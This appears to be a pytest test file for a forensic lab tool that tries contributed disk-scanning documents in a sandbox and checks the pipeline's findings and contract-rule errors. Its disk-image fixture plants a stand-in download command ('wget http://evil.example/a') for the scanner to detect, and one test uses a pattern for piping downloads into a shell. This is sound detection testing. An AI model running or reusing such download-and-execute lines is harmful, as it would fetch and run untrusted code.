"""A tool of somebody else is tried alone: by the contract's rules, in the sandbox, with what the pipeline would say."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from lab.scenarios.document_rules import problems
from lab.scenarios.try_tool import main

ROOT = Path(__file__).parents[2]
SAMPLE = ROOT / "docs" / "samples" / "investigate_strings_linux.yaml"


@pytest.fixture
def image(tmp_path: Path) -> str:
    """A volume of one MiB with a download command in it."""
    path = tmp_path / "disk.raw"
    path.write_bytes(bytes(500_000) + b"x wget http://evil.example/a y" + bytes(548_546))
    return str(path)


def changed(tmp_path: Path, change: Callable[[dict[str, Any]], object]) -> str:
    document = yaml.safe_load(SAMPLE.read_text("utf-8"))
    change(document)
    path = tmp_path / "investigate_mine_linux.yaml"
    path.write_text(yaml.safe_dump(document), "utf-8")
    return str(path)


def script(replaced: str, by: str) -> Callable[[dict[str, Any]], object]:
    def change(document: dict[str, Any]) -> None:
        lines = document["mainSteps"][0]["inputs"]["runCommand"]
        assert replaced in lines[0]
        lines[0] = lines[0].replace(replaced, by)

    return change


def test_the_guides_sample_finds_what_is_there(image: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main([str(SAMPLE), image]) == 0
    said = capsys.readouterr().out
    assert "the pipeline would say DONE: 1 finding, 0 gaps" in said
    assert "medium   strings matched a download command byte 500002" in said
    assert f"```yaml\n{SAMPLE.read_text('utf-8')}```" in (ROOT / "docs" / "adding-a-tool.md").read_text("utf-8")


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (script('"sha256":"%s"', '"sha256":"0%s"'), "the last line says"),
        (script("trap ", "exit 3; trap "), "the pipeline would say FAILED"),
        (script('{"status":"ok",', '{"status":"fine",'), "without a valid status line (status)"),
        (script('-T "$work/raw.tgz"', '-T "$work/hits.txt"'), "the last line says"),
    ],
    ids=["a wrong digest", "an exit status", "an unknown status", "another file"],
)
def test_what_the_pipeline_refuses_is_said(
    tmp_path: Path,
    image: str,
    capsys: pytest.CaptureFixture[str],
    change: Callable[[dict[str, Any]], object],
    said: str,
) -> None:
    assert main([changed(tmp_path, change), image]) == 1
    assert said in capsys.readouterr().out


def _drop(name: str) -> Callable[[dict[str, Any]], object]:
    return lambda document: document["parameters"].pop(name)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_drop("ManifestUrl"), "parameter ManifestUrl is missing: the pipeline gives it"),
        (
            lambda d: d["parameters"]["CaseId"].pop("interpolationType"),
            "parameter CaseId needs interpolationType: ENV_VAR",
        ),
        (
            lambda d: d["parameters"]["CaseId"].update(allowedPattern=".*"),
            "parameter CaseId needs an allowedPattern from ^ to $",
        ),
        (
            lambda d: d["parameters"].update(Mine={"type": "String", "allowedPattern": "^a$"}),
            "parameter Mine is given by nobody",
        ),
        (script("$SSM_ManifestUrl", "{{ ManifestUrl }}"), "in the middle of a line: use $SSM_ManifestUrl"),
        (lambda d: d.update(mainSteps=[]), "mainSteps has to be one step"),
        (lambda d: d.update(description=""), "description is missing"),
    ],
)
def test_a_broken_contract_is_told_in_sentences_before_anything_runs(
    tmp_path: Path,
    image: str,
    capsys: pytest.CaptureFixture[str],
    change: Callable[[dict[str, Any]], object],
    said: str,
) -> None:
    assert main([changed(tmp_path, change), image]) == 1
    shown = capsys.readouterr().out
    assert said in shown and "ran " not in shown


def test_how_somebody_else_writes_a_script_is_not_the_projects_business() -> None:
    """The worked example byte for byte under another name, the guide's sample, and one with every word the own rules forbid."""
    example = ROOT / "ssm_documents" / "investigate_clamav_linux.yaml"
    for path in (example, SAMPLE):
        assert problems(yaml.safe_load(path.read_text("utf-8")), size=path.stat().st_size) == []
    free = yaml.safe_load(SAMPLE.read_text("utf-8"))
    free["description"] = "x"
    free["mainSteps"][0]["inputs"]["runCommand"] = ["grep -r 'wget.*|sh' . ; git log; make; exit 0"]
    assert problems(free) == []


def test_wrong_arguments_are_told(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["nowhere.yaml", "nowhere.raw"]) == 2
    assert "make try-tool DOC=" in capsys.readouterr().err
